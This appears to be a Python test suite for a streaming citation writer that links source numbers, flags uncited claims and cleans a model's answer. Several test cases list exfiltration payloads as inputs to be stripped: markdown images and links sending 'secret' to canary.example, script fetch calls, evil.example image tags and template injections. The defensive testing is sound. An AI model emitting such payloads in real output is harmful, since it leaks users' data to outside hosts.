"""An answer written down as it comes: numbers become links, sentences are checked, nothing foreign gets through."""

from __future__ import annotations

import random
import time
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from poison import HOLES, harms

from librarian.cleaning import cleaned
from librarian.evidence import Scribe
from librarian.evidence.attribution import UNCITED, Attribution


def scribe(count: int = 3) -> Scribe:
    def supports(claim: str, ids: Sequence[int]) -> bool:
        return "false" not in claim

    return Scribe(count, supports, lambda number, holds: f"[[n{number}|{number}{'' if holds else '?'}]]")


def written(text: str, *, step: int | None = None, seed: int = 0) -> tuple[Scribe, list[str]]:
    """The text fed in pieces: of this length, or of random ones."""
    dice, writes, shown = random.Random(seed), scribe(), []
    while text:
        size = step or dice.randint(1, 9)
        shown.append(writes.take(text[:size]))
        text = text[size:]
    shown.append(writes.end())
    return writes, shown


ANSWER = (
    "Glasswort grows on mud [1]. It is false that it is blue [2, 3]. Both say so [1][3].\n\n- a point [2]\n- more\n"
)
EXPECTED = (
    "Glasswort grows on mud [[n1|1]]. It is false that it is blue [[n2|2?]] [[n3|3?]]. Both say so [[n1|1]] [[n3|3]]."
    "\n\n- a point [[n2|2]]\n- more"
)


@pytest.mark.parametrize("step", [1, 2, 3, 5, 8, 1000])
def test_however_it_comes_the_text_is_the_same_and_what_was_shown_stands(step: int) -> None:
    writes, shown = written(ANSWER, step=step)
    assert "".join(shown).rstrip() == writes.text.rstrip() == EXPECTED


def test_each_claim_is_the_sentence_before_its_numbers() -> None:
    writes, _ = written(ANSWER, step=4)
    assert [(claim.text, claim.ids, claim.supported) for claim in writes.claims] == [
        ("Glasswort grows on mud", (1,), True),
        ("It is false that it is blue", (2, 3), False),
        ("Both say so", (1, 3), True),
        ("a point", (2,), True),
    ]


def test_a_number_behind_the_full_stop_belongs_to_the_sentence_before() -> None:
    writes, _ = written("It is so. [1] It is false. [2]", step=3)
    assert [(claim.text, claim.supported) for claim in writes.claims] == [("It is so.", True), ("It is false.", False)]


@pytest.mark.parametrize(
    ("text", "claims"),
    [
        ("Dr. Moll kam 1874, z. B. im Mai [1]. Sie blieb [2].", ["Dr. Moll kam 1874, z. B. im Mai", "Sie blieb"]),
        ("盐角草长在泥上[1]。它可以吃。[2]", ["盐角草长在泥上", "它可以吃。"]),
        ("ينمو النبات في الطين [1]. هل يؤكل؟ نعم يؤكل [2].", ["ينمو النبات في الطين", "نعم يؤكل"]),
        ("पौधा कीचड़ में उगता है। इसे खाते हैं [1]।", ["इसे खाते हैं"]),
    ],
)
def test_a_claim_is_one_sentence_in_every_script(text: str, claims: list[str]) -> None:
    writes, _ = written(text, step=3)
    assert [claim.text for claim in writes.claims] == claims


def test_numbers_of_passages_that_do_not_exist_are_left_out_and_counted() -> None:
    writes, _ = written("So it is [7]. And so [1, 12]. [99]", step=2)
    assert writes.text.rstrip() == "So it is. And so [[n1|1]]."
    assert writes.unknown == 3


def test_a_number_without_a_sentence_supports_nothing() -> None:
    writes, _ = written("[1]")
    assert [(claim.text, claim.supported) for claim in writes.claims] == [("", False)]


@pytest.mark.parametrize(
    "text",
    [
        "Look ![x](https://canary.example/?q=secret) here [1].",
        "Look [here](https://canary.example/?q=secret) [1].",
        "Look <img src='https://canary.example/x.png'> [1].",
        "Look https://canary.example/?q=secret [1].",
        "Look [[Note|https://canary.example]] [1].",
        "Look ![[https://canary.example]] [1].",
        "[1]: https://canary.example/x\nLook ![a][1].",
        "Look [1](https://canary.example) here.",
        "Look [![a](https://canary.example/a)](https://canary.example/b) [1].",
        "Look <script>fetch('https://canary.example')</script> [1].",
        "Look \ue001\ue002 [1].",
    ],
)
def test_nothing_foreign_gets_through_in_any_piece(text: str) -> None:
    for step in (1, 3, 7, 400):
        writes, shown = written(text, step=step)
        said = "".join(shown)
        assert "://" not in said, (step, said)
        assert "![" not in said
        assert "<img" not in said
        assert "<script" not in said
        assert "\ue001" not in said
        assert "](" not in said
        assert said.rstrip() == writes.text.rstrip()


@pytest.mark.parametrize(
    "text",
    [
        "`[?]$= dv.io.load('x')`",
        "`[99]$= dv.io.load('x')`",
        '<[?]img src="https&#58;//evil.example/x.png">',
        "![?][x][?](https&#58;//evil.example/x.png)",
        "`V[?]IEW[![x](https://evil.example)][text]`",
        "<[?]% tp.x() %>",
        "%[?]%hidden%[?]%",
        "<[?]!-- hidden --[?]>",
        "Mud grows [1].\n\n```\nx\n```\n[1]\ny\n```\n![](https://evil.example/x.png)\n```\n\nEnd [1].",
        "So it is [1]<b>(https&#58;//evil.example/x) and more.",
        "盐角草生长在泥滩上。(https&#58;//evil.example/x)",
        "`<p[1] onclick=x()>`",
        *HOLES,
    ],
)
def test_what_marks_and_numbers_keep_apart_does_no_harm_when_they_go(text: str) -> None:
    for step in (1, 2, 3, 7, 400):
        _, shown = written(text, step=step)
        assert harms("".join(shown)) == [], step


FRAGMENTS = [
    "[?]", "[99]", "[1]", "[2, 3]", "![", "[", "]", "](", "(", ")", "https&#58;//evil.example/x", "https://evil.example/x",
    "<", "<img src=", "<p", "<b>", " onclick=x()", ">", "<!--", "-->", "%", "<%", "`", "``", "```", "~~~", "$= ", "= ",
    "VIEW[", "$", "$$", "\\style", "\\", "{", "}", "\n", "\n\n", " ", "- ", "> ", "---", "words ", "Mud grows here. ", "。",
    '"', "'", ":", "\u00a0", "dataviewjs", "text ", "|", "[[", "]]", "&lt;", "!",
]  # fmt: skip
answers = st.lists(st.sampled_from(FRAGMENTS), min_size=2, max_size=24).map("".join)


@settings(max_examples=1500, deadline=None)
@given(answers, st.lists(st.integers(1, 12), min_size=1, max_size=8))
def test_whatever_a_model_strings_together_nothing_of_it_does_harm(text: str, steps: list[int]) -> None:
    # Links without a bar, which would end code for the second cleaning, as it ends a cell of a table.
    writes, shown, place = Scribe(3, lambda *_: True, lambda number, _holds: f"[[n{number}]]"), [], 0
    for size in steps * len(text):
        shown.append(writes.take(text[place : place + size]))
        place += size
        if place >= len(text):
            break
        assert harms("".join(shown)) == []
    shown.append(writes.end())
    assert harms(writes.text) == []
    assert writes.text == "".join(shown)
    plain = writes.text.replace(f" {UNCITED}", "")
    assert cleaned(plain, {"n1", "n2", "n3"}) == plain


def test_what_comes_in_random_pieces_is_the_same_as_at_once() -> None:
    dice = random.Random(7)
    parts = [
        "word ",
        "is so. ",
        "[1]",
        "[2",
        "]",
        "\n",
        "\n\n",
        "- ",
        "**b** ",
        "[",
        "(x)",
        "`c` ",
        "é",
        "[3, 1] ",
        "<b>",
        "false. ",
    ]
    for seed in range(200):
        text = "".join(dice.choice(parts) for _ in range(30))
        once, _ = written(text, step=10_000)
        several, shown = written(text, seed=seed)
        assert "".join(shown).rstrip() == several.text.rstrip()
        assert [claim.ids for claim in several.claims] == [claim.ids for claim in once.claims], text


UNNAMED = (
    "Here is what there is:\n\n- Glasswort grows on mud [1]\n- Redshank nests in **tall grass.**\n- Cordgrass spreads [2]. "
    "By Dr. Hall, e.g. in 1920 [3]. It was 40 cm high. Nobody knows why it died.\n\nDoes it matter? Sure! Yes.\n\n"
    "```\nuse of code and more\n```\n\n## A heading of words\n\nGlasswort [1] and cordgrass are plants. Salt kills most seeds"
)


@pytest.mark.parametrize("step", [1, 2, 3, 7, 1000])
def test_a_sentence_that_claims_something_and_names_no_passage_is_marked(step: int) -> None:
    writes, shown = written(UNNAMED, step=step)
    assert writes.uncited == (
        "Redshank nests in **tall grass.**",
        "It was 40 cm high.",
        "Nobody knows why it died.",
        "Salt kills most seeds",
    )
    expected = UNNAMED.replace("[1]", "[[n1|1]]").replace("[2]", "[[n2|2]]").replace("[3]", "[[n3|3]]")
    for sentence in ("tall grass.**", "40 cm high.", "why it died.", "most seeds"):
        expected = expected.replace(sentence, f"{sentence} [?]")
    assert "".join(shown) == writes.text == expected


@pytest.mark.parametrize(
    ("text", "uncited"),
    [
        ("Glasswort grows on mud. [1] It tastes of salt.", ("It tastes of salt.",)),
        ("盐角草生长在泥滩上。它的高度是四十厘米[1]。", ("盐角草生长在泥滩上。",)),
        ("Watt. Der Queller wächst z. B. auf Schlick [1].", ()),
        ("So it grows well on mud [9].", ("So it grows well on mud.",)),
        ("Glasswort grows on mud [?].", ("Glasswort grows on mud.",)),
        ("It is 7.", ("It is 7.",)),
        ("| Plant | Height |\n|---|---|\n| Glasswort grows | high |", ()),
    ],
)
def test_what_names_no_passage_is_told_in_every_script_and_nothing_else(text: str, uncited: tuple[str, ...]) -> None:
    for step in (1, 4, 400):
        writes, _ = written(text, step=step)
        assert writes.uncited == uncited
        assert writes.text.count("[?]") == len(uncited)


def test_a_sentence_without_an_end_takes_no_long_time() -> None:
    took = []
    for size in (500, 5_000):
        attribution, started = Attribution(), time.process_time()
        for _ in range(size):
            attribution.prose("word. word " + "z" * 20)
        took.append(time.process_time() - started)
    assert took[1] < 12 * took[0] + 0.2
